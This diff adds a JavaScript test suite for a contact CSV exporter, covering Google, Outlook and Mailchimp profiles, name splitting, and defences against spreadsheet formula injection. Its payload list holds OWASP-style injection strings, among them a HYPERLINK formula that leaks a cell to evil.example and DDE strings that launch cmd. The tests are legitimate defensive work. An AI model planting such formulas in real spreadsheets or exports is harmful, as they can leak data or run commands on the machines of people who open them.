@@ -0,0 +1,105 @@
+// test-csv-export.js - CSV export profile tests
+const { generateCSV, escapeCSV } = require('../src/csv-generator');
+const { getExportProfile, resolveProfile, splitName, getExportableContacts } = require('../src/export-profiles');
+
+console.log('🧪 CSV EXPORT TEST SUITE\n');
+
+let passed = 0;
+let total = 0;
+
+function check(description, condition) {
+    total++;
+    if (condition) passed++;
+    console.log(`${condition ? '✅' : '❌'} ${description}`);
+}
+
+const contacts = [
+    { name: 'Mrs Ada Grace Obi', mobile: '+2348012345678', email: 'ada@example.com', company: 'Acme, Ltd', notes: 'VIP' },
+    { name: 'Bob', mobile: '+2348033333333', email: '', company: '', notes: '' }
+];
+
+function csvLines(profile) {
+    return generateCSV(contacts, profile).split('\n');
+}
+
+// Default layout is unchanged for the ticketing system
+const ticketing = csvLines();
+check('Default export keeps the name,mobile,email,passes layout', ticketing[0] === 'name,mobile,email,passes');
+check('Default export writes one pass per guest', ticketing[2] === 'Bob,+2348033333333,,1');
+
+// Google Contacts
+const google = csvLines('google');
+check('Google export uses Google Contacts headers', google[0].startsWith('Name,Name Prefix,Given Name,Family Name'));
+check('Google export splits names and keeps company', google[1] === 'Mrs Ada Grace Obi,Mrs,Ada Grace,Obi,* Other,ada@example.com,Mobile,+2348012345678,,,"Acme, Ltd",,,,,VIP');
+
+// Outlook ordering
+const outlook = csvLines('outlook');
+check('Outlook export orders columns for Outlook import', outlook[0] === 'Title,First Name,Last Name,Mobile Phone,Other Phone,E-mail Address,Company,Job Title,Notes');
+
+// Full export includes company and notes
+const full = csvLines('full');
+check('Full export includes company and notes', full[1].startsWith('Mrs Ada Grace Obi,Ada Grace,Obi,') && full[1].includes('"Acme, Ltd"') && full[1].endsWith(',VIP'));
+
+// Guests with several numbers (from vCards) keep them all
+const multi = [{
+    name: 'Ngozi Eze', mobile: '+2348012345678', email: 'ngozi@example.com', company: '', notes: '',
+    phones: [
+        { value: '+2348012345678', type: 'mobile', preferred: false },
+        { value: '+2341234567', type: 'work', preferred: false },
+        { value: '+447911123456', type: 'home', preferred: false }
+    ],
+    emails: [{ value: 'ngozi@example.com', type: 'home' }, { value: 'n.eze@work.example', type: 'work' }],
+    title: 'Planner'
+}];
+const multiFull = generateCSV(multi, 'full').split('\n')[1];
+check('Full export lists the other numbers and emails', multiFull.includes(',+2341234567 (work); +447911123456 (home),') && multiFull.includes('n.eze@work.example (work)'));
+const multiGoogle = generateCSV(multi, 'google').split('\n')[1];
+check('Google export writes a second phone with its type', multiGoogle.includes(',Mobile,+2348012345678,Work,+2341234567,') && multiGoogle.includes(',Planner,'));
+
+// Mailchimp requires an email
+const mailchimp = getExportProfile('mailchimp');
+check('Mailchimp export leaves out contacts without email', getExportableContacts(contacts, mailchimp).length === 1);
+
+// Profile names and name splitting
+check('Profile names resolve case-insensitively with aliases', resolveProfile('Gmail') === 'google' && resolveProfile('nope') === null);
+check('Unknown profiles fall back to the default layout', getExportProfile('nope').key === 'ticketing');
+const split = splitName('Dr. John Paul Smith');
+check('Names split into prefix, first and last name', split.prefix === 'Dr.' && split.firstName === 'John Paul' && split.lastName === 'Smith');
+check('Single-word names become the first name', splitName('Bob').firstName === 'Bob' && splitName('Bob').lastName === '');
+
+// Formula injection (OWASP CSV Injection payloads)
+const payloads = [
+    '=1+1',
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for prize")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=cmd|' /C notepad'!'A1'",
+    '\t=1+1',
+    '\r=1+1',
+    '  =1+1'
+];
+
+payloads.forEach(payload => {
+    const escaped = escapeCSV(payload);
+    const cell = escaped.startsWith('"') ? escaped.slice(1, -1).replace(/""/g, '"') : escaped;
+    check(`Neutralises ${JSON.stringify(payload.substring(0, 25))}`, cell === `'${payload}` && escaped.startsWith('"'));
+});
+
+check('Keeps +234 numbers intact in the phone column', escapeCSV('+2348012345678', { phone: true }) === '+2348012345678');
+check('Keeps spaced international numbers in the phone column', escapeCSV('+44 20 7946 0958', { phone: true }) === '+44 20 7946 0958');
+check('Neutralises formulas disguised in the phone column', escapeCSV('+1+cmd|calc', { phone: true }) === `"'+1+cmd|calc"`);
+check('Keeps lists of numbers intact in the other phones column', escapeCSV('+2348012345678 (mobile); +44 20 7946 0958 (work)', { phoneList: true }) === '+2348012345678 (mobile); +44 20 7946 0958 (work)');
+check('Neutralises formulas disguised in the other phones column', escapeCSV('+1 (work); =cmd|calc', { phoneList: true }) === `"'+1 (work); =cmd|calc"`);
+check('Neutralises phone-like text outside the phone column', escapeCSV('+2348012345678') === `"'+2348012345678"`);
+check('Quotes fields containing carriage returns', escapeCSV('Line 1\rLine 2') === '"Line 1\rLine 2"');
+check('Leaves ordinary names untouched', escapeCSV('Ada-Obi') === 'Ada-Obi' && escapeCSV("O'Brien") === "O'Brien");
+
+const injected = generateCSV([{ name: '=HYPERLINK("http://evil.example")', mobile: '+2348012345678', email: '@evil' }]).split('\n')[1];
+check('Generated rows neutralise names and keep phone numbers', injected === `"'=HYPERLINK(""http://evil.example"")",+2348012345678,"'@evil",1`);
+
+console.log(`\n🏁 CSV EXPORT TESTS COMPLETE: ${passed}/${total} passed`);
+
+if (passed !== total) {
+    process.exitCode = 1;
+}